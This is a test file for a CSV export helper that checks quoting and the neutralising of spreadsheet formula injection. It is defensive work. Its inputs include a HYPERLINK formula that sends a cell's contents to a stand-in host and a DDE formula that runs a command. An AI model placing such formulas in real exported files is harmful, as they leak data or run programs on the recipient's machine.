import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv';

describe('csvCell', () => {
	const cases: [string, string, string][] = [
		['plain text stays as it is', 'Projector dim', 'Projector dim'],
		['empty', '', ''],
		['a comma is quoted', 'Room 114, north wing', '"Room 114, north wing"'],
		['quotes are doubled inside quotes', 'The "smart" board', '"The ""smart"" board"'],
		['a line break is quoted', 'line one\nline two', '"line one\nline two"'],
		['a formula gets an apostrophe', '=HYPERLINK("http://x.example/?"&A1,"Click")', '"\'=HYPERLINK(""http://x.example/?""&A1,""Click"")"'],
		['a command formula', '=cmd|\' /C calc\'!A0', "'=cmd|' /C calc'!A0"],
		['a leading plus', '+1+1', "'+1+1"],
		['a leading minus', '-2+3', "'-2+3"],
		['a leading at sign', '@SUM(A1:A9)', "'@SUM(A1:A9)"],
		['a leading tab', '\t=1+1', "'\t=1+1"],
		['a leading carriage return is escaped and quoted', '\r=1+1', '"\'\r=1+1"'],
		['a formula with a comma is escaped, then quoted', '=1,2', '"\'=1,2"'],
		['a sign inside the text is harmless', 'Call 555-0100 = done', 'Call 555-0100 = done'],
		['a leading quote is only quoted', '"=1+1"', '"""=1+1"""'],
		['a leading space is left alone', ' =1', ' =1']
	];
	it.each(cases)('%s', (_name, value, expected) => {
		expect(csvCell(value)).toBe(expected);
	});
});

describe('toCsv', () => {
	it('ends every record, the last too, with CRLF', () => {
		expect(toCsv(['a', 'b'], [['1', '2'], ['x,y', '=z']])).toBe('a,b\r\n1,2\r\n"x,y",\'=z\r\n');
	});

	it('writes only the header for no rows', () => {
		expect(toCsv(['a'], [])).toBe('a\r\n');
	});
});
